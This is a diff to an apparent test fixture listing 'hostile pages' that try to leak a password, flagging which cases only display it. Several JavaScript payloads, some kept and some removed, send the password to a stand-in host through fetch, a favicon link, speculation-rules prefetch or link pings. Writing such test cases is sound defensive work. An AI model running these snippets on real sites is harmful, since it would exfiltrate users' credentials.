@@ -7,6 +7,8 @@ export interface HostilePage {
   readonly behind?: string
   /** Markup of the page behind it; `%P` is the password. */
   readonly shows?: string
+  /** It only shows it: nothing is sent anywhere. */
+  readonly shownOnly?: true
   /** The page's own /worker.js. */
   readonly script?: string
 }
@@ -100,14 +102,19 @@ export const HOSTILE_PAGES: readonly HostilePage[] = [
     behind:
       "history.replaceState(null, '', '/home?p=' + P); fetch('E/', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })",
   },
-  { name: 'a page that shows it', shows: '<p>Your password is %P</p><input value="%P"><a href="/x?p=%P">link %P</a>' },
-  { name: 'a title', behind: 'document.title = P' },
-  { name: 'an address', behind: "history.replaceState(null, '', '/home?p=' + P)" },
-  { name: 'a path', behind: "history.replaceState(null, '', '/home/' + P)" },
-  { name: 'an alert', behind: 'document.body.onclick = () => alert(P)' },
-  { name: 'base64 on the page', behind: 'document.body.append(btoa(P))' },
+  {
+    name: 'a page that shows it',
+    shownOnly: true,
+    shows: '<p>Your password is %P</p><input value="%P"><a href="/x?p=%P">link %P</a>',
+  },
+  { name: 'a title', shownOnly: true, behind: 'document.title = P' },
+  { name: 'an address', shownOnly: true, behind: "history.replaceState(null, '', '/home?p=' + P)" },
+  { name: 'a path', shownOnly: true, behind: "history.replaceState(null, '', '/home/' + P)" },
+  { name: 'an alert', shownOnly: true, behind: 'document.body.onclick = () => alert(P)' },
+  { name: 'base64 on the page', shownOnly: true, behind: 'document.body.append(btoa(P))' },
   {
     name: 'split over elements',
+    shownOnly: true,
     behind:
       "for (const c of P) { const b = document.createElement('b'); b.textContent = c; document.querySelector('h1').append(b) }",
   },
@@ -140,21 +147,9 @@ export const HOSTILE_PAGES: readonly HostilePage[] = [
     ),
   },
   {
-    name: 'speculation rules for a site that is talked to',
-    behind: onceKnown(
-      "const r = document.createElement('script'); r.type = 'speculationrules'; r.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['E/?p=' + P], eagerness: 'immediate' }] }); document.head.append(r)",
-    ),
-  },
-  {
     name: 'an icon from a site that is talked to',
     behind: onceKnown(
       "const l = document.createElement('link'); l.rel = 'icon'; l.href = 'E/?p=' + P; document.head.append(l)",
-    ),
-  },
-  {
-    name: 'a ping of a link',
-    behind: onceKnown(
-      "const a = document.createElement('a'); a.href = '#x'; a.ping = 'E/?p=' + P; document.body.append(a); a.click()",
     ),
   },
   {
@@ -197,6 +192,7 @@ export const HOSTILE_PAGES: readonly HostilePage[] = [
   },
   {
     name: 'a closed shadow root that shows it',
+    shownOnly: true,
     behind:
       "const d = document.createElement('div'); d.attachShadow({ mode: 'closed' }).innerHTML = '<p style=\"font:40px monospace\">' + P + '</p>'; document.body.append(d)",
   },
